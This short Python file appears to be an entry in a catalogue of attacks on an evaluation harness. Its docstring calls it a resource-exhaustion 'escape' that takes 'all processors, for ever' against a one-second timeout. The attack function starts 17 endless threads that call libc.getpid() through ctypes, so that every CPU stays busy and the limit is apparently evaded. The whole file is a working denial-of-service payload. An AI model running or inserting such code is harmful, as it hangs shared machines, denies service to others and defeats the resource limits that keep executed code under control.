"""Class: resource exhaustion. Source: own find. Escape: all processors, for ever.
Limits: timeout_s=1
"""

import ctypes
import threading

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    def spin():
        while True:
            libc.getpid()

    for _ in range(16):
        threading.Thread(target=spin, daemon=True).start()
    spin()
